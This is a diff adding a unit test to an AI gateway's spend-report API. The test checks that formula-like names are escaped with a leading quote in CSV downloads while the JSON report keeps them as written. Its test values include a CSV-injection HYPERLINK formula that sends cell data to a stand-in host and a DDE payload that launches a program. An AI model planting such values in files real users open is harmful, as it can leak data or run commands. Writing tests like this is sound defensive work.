@@ -19,7 +19,7 @@ from aigw.http.admin_spend import SpendApi
 from aigw.http.auth import Authenticator
 from aigw.http.request import HttpRequest
 from aigw.pipeline.context import Principal
-from aigw.stores.base import NANO, Project, SpendRecord, Tenant
+from aigw.stores.base import NANO, ApiKey, Project, SpendRecord, Tenant
 from aigw.stores.database import SqlDatabase, open_database
 from tests.support.services import RUN_ID, pg_execute, postgres_dsn
 from tests.unit.http.admin_support import admin_api, migrated_db
@@ -196,3 +196,25 @@ async def test_a_csv_cut_at_its_limit_says_so_in_its_headers(store: SqlDatabase)
     status, headers, body = await _get(api, b"group_by=key&format=csv&model=m")
     assert len(list(csv.DictReader(io.StringIO(body.decode())))) == 3
     assert headers["x-aigw-has-more"] == "false" and headers["x-aigw-total-cost-nano"] == "6000000000"
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://x.test/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+                                  "\t=1", "\r=1"])
+async def test_a_name_a_spreadsheet_would_run_as_a_formula_is_text_in_the_csv(store: SqlDatabase, name: str) -> None:
+    """A tenant admin names its keys and projects; opened in a spreadsheet, ``=HYPERLINK(...)`` in the master's
+    CSV ran as a formula (CSV injection). Such a cell now starts with ``'``; the JSON report keeps the name."""
+    await store.add_tenant(Tenant("ten_a", name))
+    await store.add_project(Project("prj_a", "ten_a", name))
+    await store.add_key(ApiKey(id="key_a", tenant_id="ten_a", project_id="prj_a", key_hash="h", prefix="sk-aigw-abcd",
+                               name=name))
+    await _write(store, {"key_a": 1})
+    api = SpendApi(admin_api(store))
+    for group, column in (("key", "key_name"), ("project", "project_name"), ("tenant", "tenant_name")):
+        status, download = await api.spend(HttpRequest(
+            {"method": "GET", "path": "/admin/spend", "query_string": f"group_by={group}&format=csv".encode(),
+             "headers": []}, None), MASTER)
+        assert status == 200 and isinstance(download, Download)
+        [row] = csv.DictReader(io.StringIO(download.body.decode(), newline=""))
+        assert row[column] == "'" + name, group
+        assert row["cost_usd"] == "0.000000001"  # numbers stay numbers
+        assert (await _report(api, f"group_by={group}"))["data"][0][column] == name
